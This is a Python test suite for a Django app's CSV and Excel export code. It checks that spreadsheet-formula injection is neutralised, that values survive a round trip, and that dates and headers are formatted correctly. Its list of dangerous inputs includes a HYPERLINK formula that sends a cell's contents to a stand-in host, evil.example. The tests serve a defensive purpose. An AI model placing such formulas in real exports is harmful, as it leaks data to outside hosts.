"""Exports are formula-safe, pleasant in Excel, and come back in without loss."""

import csv
import datetime
import io
import zipfile
from types import SimpleNamespace

from django.utils import timezone, translation
from django.utils.translation import gettext_lazy
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from samspill.common.lists import Column, export_response, neutralise, unneutralise

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?x="&A1;"Klikk")',
    "+47 55 00 00 00",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed",
    "\rReturned",
]

COLUMNS = [
    Column(gettext_lazy("Name"), lambda r: r.name, "name"),
    Column("Count", lambda r: r.count),
    Column("Joined", lambda r: r.joined_on),
    Column("Uploaded", lambda r: r.created_at),
    Column("Note", lambda r: r.note),
]


def _row(name, count=3, joined_on=None, created_at=None, note=None):
    return SimpleNamespace(
        name=name, count=count, joined_on=joined_on, created_at=created_at, note=note
    )


def _csv(rows):
    with translation.override("en"):
        response = export_response(rows=rows, columns=COLUMNS, filename="Liste", fmt="csv")
    assert response.content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def _xlsx(rows):
    with translation.override("en"):
        response = export_response(rows=rows, columns=COLUMNS, filename="Liste", fmt="xlsx")
    return response.content, load_workbook(io.BytesIO(response.content)).active


def test_neutralise_prefixes_formula_starts_with_a_quote():
    assert [neutralise(v) for v in DANGEROUS] == ["'" + v for v in DANGEROUS]
    assert neutralise("Bergen kommune") == "Bergen kommune"
    assert neutralise("") == ""
    assert neutralise("'=x") == "''=x"
    assert neutralise("'quoted'") == "'quoted'"


def test_unneutralise_leaves_ordinary_text_alone():
    for text in ["Bergen kommune", "'quoted'", "'", "", "It's"]:
        assert unneutralise(text) == text


@given(st.text())
def test_every_string_survives_neutralise_and_back(value):
    assert unneutralise(neutralise(value)) == value
    assert not neutralise(value).startswith(("=", "+", "-", "@", "\t", "\r"))


@given(st.text(alphabet=st.characters(exclude_categories=("Cs",), exclude_characters="\x00")))
def test_every_string_survives_a_csv_export_and_reading_back(value):
    rows = _csv([_row(value)])
    assert unneutralise(rows[1][0]) == value


def test_csv_neutralises_text_but_not_numbers():
    rows = _csv([_row(v) for v in DANGEROUS] + [_row("Negativ", count=-5)])
    assert rows[0] == ["Name", "Count", "Joined", "Uploaded", "Note"]
    assert [r[0] for r in rows[1:-1]] == ["'" + v for v in DANGEROUS]
    assert rows[-1][:2] == ["Negativ", "-5"]


def test_csv_writes_empty_cells_and_iso_dates():
    created = timezone.make_aware(datetime.datetime(2026, 11, 22, 14, 5))
    rows = _csv([_row("A", joined_on=datetime.date(2022, 10, 7), created_at=created, note="")])
    assert rows[1] == ["A", "3", "2022-10-07", "2026-11-22 14:05", ""]


def test_xlsx_keeps_formula_text_as_text_never_a_formula():
    content, sheet = _xlsx([_row(v) for v in DANGEROUS])
    for number, value in enumerate(DANGEROUS, start=2):
        cell = sheet.cell(row=number, column=1)
        assert cell.value == value
        assert cell.data_type == "s"
        assert cell.quotePrefix
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    assert "<f " not in xml


def test_xlsx_has_bold_frozen_filtered_header_and_fitted_widths():
    long_name = "Universitetet i Bergen, Det medisinske fakultet, " * 3
    _content, sheet = _xlsx([_row("Ås"), _row(long_name)])
    assert [c.value for c in sheet[1]] == ["Name", "Count", "Joined", "Uploaded", "Note"]
    assert all(c.font.bold for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:E3"
    assert sheet.column_dimensions["A"].width == 60  # bounded
    assert sheet.column_dimensions["B"].width == 8  # at least
    assert sheet.column_dimensions["D"].width == len("Uploaded") + 2  # fitted to the header


def test_xlsx_counts_are_numbers_dates_are_dates_and_empty_is_empty():
    created = timezone.make_aware(datetime.datetime(2026, 11, 22, 14, 5))
    _content, sheet = _xlsx(
        [_row("A", count=12, joined_on=datetime.date(2022, 10, 7), created_at=created, note="")]
    )
    count, joined, uploaded, note = (sheet.cell(row=2, column=n) for n in (2, 3, 4, 5))
    assert count.value == 12
    assert isinstance(count.value, int)
    assert joined.value == datetime.datetime(2022, 10, 7)
    assert joined.is_date
    assert joined.number_format == "dd.mm.yyyy"
    # Europe/Oslo in winter is UTC+1; Excel has no time zones, so local time is written.
    assert uploaded.value == datetime.datetime(2026, 11, 22, 14, 5)
    assert uploaded.number_format == "dd.mm.yyyy hh:mm"
    assert note.value is None
    _content, sheet = _xlsx([_row("B", count=None)])
    assert sheet.cell(row=2, column=2).value is None


def test_xlsx_without_rows_still_has_its_header():
    _content, sheet = _xlsx([])
    assert [c.value for c in sheet[1]] == ["Name", "Count", "Joined", "Uploaded", "Note"]
    assert sheet.max_row == 1
